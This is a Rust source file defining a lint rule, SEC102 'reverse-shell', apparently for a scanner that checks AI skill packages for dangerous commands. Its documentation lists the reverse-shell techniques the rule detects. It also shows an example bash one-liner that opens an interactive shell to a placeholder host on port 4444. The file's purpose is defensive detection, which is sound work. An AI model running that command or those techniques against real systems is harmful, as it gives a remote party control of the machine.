//! SEC102 reverse-shell.

use skillc_core::Skill;
use skillc_lint::{Findings, Rule, RuleMeta, declare_rule};

use crate::security::report;

declare_rule! {
    /// Reports a command that gives a remote machine a shell.
    ///
    /// ## Why
    /// No skill needs a reverse shell. The rule finds `/dev/tcp` connected to a shell, `nc -e`, `mkfifo` with `nc`, and
    /// sockets connected to a shell in Python, Perl, Ruby, PHP, Node and PowerShell. It also finds a script that runs
    /// commands that it receives from a host, and sends the output back.
    ///
    /// The rule also checks encoded text, such as base64, after decoding it: see [what is
    /// read](../../security-scan.md#what-is-read).
    ///
    /// A command in the instructions is only a warning if the skill says that its targets are the user's own or that
    /// their owner has agreed, and the command leads to a private address or a placeholder.
    ///
    /// ## What is not reported
    /// - commands that only check whether a port is open
    /// - commands that the text forbids, calls dangerous or lists as dangers
    /// - in a [skill about security](../../security-scan.md#how-findings-are-decided), commands in the instructions;
    ///   the skill's scripts are still checked
    ///
    /// ## Example
    /// ```sh
    /// bash -i >& /dev/tcp/tunnel.invalid/4444 0>&1
    /// ```
    /// Remove the command.
    pub(crate) struct ReverseShell {
        code: "SEC102",
        name: "reverse-shell",
        severity: Error,
        since: "0.3.0",
        activation: OnRequest,
    }
}

impl Rule for ReverseShell {
    fn meta(&self) -> &RuleMeta {
        Self::META
    }

    fn check_skill(&self, skill: &Skill, out: &mut Findings<'_>) {
        report(&Self::META.code, skill, out);
    }
}
